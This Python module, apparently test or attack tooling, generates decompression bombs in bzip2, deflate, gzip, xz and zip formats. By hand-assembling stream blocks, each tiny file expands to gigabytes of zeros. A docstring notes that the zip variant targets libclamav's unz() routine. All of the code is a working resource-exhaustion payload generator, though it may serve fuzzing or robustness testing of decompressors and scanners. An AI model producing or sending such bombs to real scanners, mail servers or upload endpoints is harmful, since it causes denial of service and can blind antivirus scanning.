"""bombs -- decompression bombs built in well under a second (no gigabyte is ever compressed)."""
import bz2
import functools
import lzma
import zlib

_BZ_BLOCK_ZEROS = 179996 * 255      # zeros whose RLE1 form fills one 900 kB bzip2 block exactly
_BZ_END = 0x177245385090


def _bits(data):
    return "".join(f"{b:08b}" for b in data)


@functools.lru_cache(maxsize=None)
def _bz_block():
    """(bits of one bzip2 block of zeros, its CRC, bytes it expands to)."""
    s = _bits(bz2.compress(bytes(_BZ_BLOCK_ZEROS), 9))
    for pad in range(8):
        end = len(s) - pad - 80
        if int(s[end:end + 48], 2) == _BZ_END:
            block = s[32:end]
            assert int(block[:48], 2) == 0x314159265359
            return block, int(block[48:80], 2), _BZ_BLOCK_ZEROS
    raise AssertionError("no bzip2 end marker")


def bzip2_bomb(size):
    """One bzip2 stream expanding to at least size zero bytes (about 35 bytes per 44 MiB)."""
    block, crc, per = _bz_block()
    n = max(1, -(-size // per))
    combined = 0
    for _ in range(n):
        combined = ((combined << 1) | (combined >> 31)) & 0xFFFFFFFF
        combined ^= crc
    s = _bits(b"BZh9") + block * n + f"{_BZ_END:048b}" + f"{combined:032b}"
    s += "0" * (-len(s) % 8)
    return int(s, 2).to_bytes(len(s) // 8, "big")


_CHUNK = 1 << 24


@functools.lru_cache(maxsize=None)
def _deflate_chunk():
    """Raw deflate of _CHUNK zeros ending in a full flush: it does not refer back, so copies of it
    in a row are a valid stream of that many chunks."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    c.compress(bytes(_CHUNK))
    c.flush(zlib.Z_FULL_FLUSH)
    chunk = c.compress(bytes(_CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)
    return chunk, c.flush()


def deflate_bomb(size):
    """(raw deflate stream, bytes it expands to: size rounded up to 16 MiB)."""
    chunk, end = _deflate_chunk()
    n = max(1, -(-size // _CHUNK))
    return chunk * n + end, n * _CHUNK


def gzip_bomb(size):
    """A gzip member of zero bytes (about 1 KB per MiB: deflate's limit is 1032:1)."""
    import struct
    data, size = deflate_bomb(size)
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + data +
            struct.pack("<II", _zeros_crc(size), size & 0xFFFFFFFF))


_LZMA2_CHUNK = 1 << 20    # bytes in one LZMA2 chunk (the encoder splits 2 MiB in two)


@functools.lru_cache(maxsize=None)
def _lzma2_chunk():
    """One raw LZMA2 chunk of 1 MiB zeros that resets the dictionary: copies of it in a row are a
    valid LZMA2 stream."""
    raw = lzma.compress(bytes(_LZMA2_CHUNK), lzma.FORMAT_RAW,
                        filters=[{"id": lzma.FILTER_LZMA2, "preset": 0, "dict_size": 1 << 20}])
    # control (dictionary reset, new properties), unpacked - 1, packed - 1, properties, data, end
    assert raw[0] & 0xE0 == 0xE0 and len(raw) == 6 + (raw[3] << 8 | raw[4]) + 1 + 1, raw[:6]
    return raw[:-1]


def _varint(n):
    out = bytearray()
    while True:
        out.append((n & 0x7F) | (0x80 if n > 0x7F else 0))
        n >>= 7
        if not n:
            return bytes(out)


def xz_bomb(size):
    """One .xz stream (one block, no check) of zero bytes: size rounded up to 1 MiB."""
    import struct
    n = max(1, -(-size // _LZMA2_CHUNK))
    data = _lzma2_chunk() * n + b"\x00"
    flags = b"\x00\x00"
    header = b"\xfd7zXZ\x00" + flags + struct.pack("<I", zlib.crc32(flags))
    bh = b"\x02\x00\x21\x01\x10\x00\x00\x00"     # 12 bytes, LZMA2, dictionary 1 MiB
    bh += struct.pack("<I", zlib.crc32(bh))
    block = bh + data + bytes(-len(data) % 4)
    index = b"\x00" + _varint(1) + _varint(len(bh) + len(data)) + _varint(n * _LZMA2_CHUNK)
    index += bytes(-len(index) % 4)
    index += struct.pack("<I", zlib.crc32(index))
    back = struct.pack("<I", len(index) // 4 - 1) + flags
    footer = struct.pack("<I", zlib.crc32(back)) + back + b"YZ"
    return header + block + index + footer


def _zeros_crc(size, chunk=1 << 24):
    crc, zero = 0, bytes(chunk)
    while size > 0:
        crc = zlib.crc32(zero[:min(chunk, size)], crc)
        size -= chunk
    return crc


def zip_bomb(size, method="bzip2"):
    """A zip of one member of size zero bytes, stored with method (bzip2: 12, deflate: 8) without a
    data descriptor: libclamav's unz() unpacks it in one loop."""
    import struct
    if method == "bzip2":
        data, code = bzip2_bomb(size), 12
        size = -(-size // _BZ_BLOCK_ZEROS) * _BZ_BLOCK_ZEROS
    else:
        (data, size), code = deflate_bomb(size), 8
    crc, name = _zeros_crc(size), b"zeros"
    local = struct.pack("<IHHHHHIIIHH", 0x04034b50, 46, 0, code, 0, 0, crc, len(data),
                        min(size, 0xFFFFFFFF), len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 46, 46, 0, code, 0, 0, crc,
                          len(data), min(size, 0xFFFFFFFF), len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, 1, 1, len(central),
                      len(local) + len(data), 0)
    return local + data + central + end
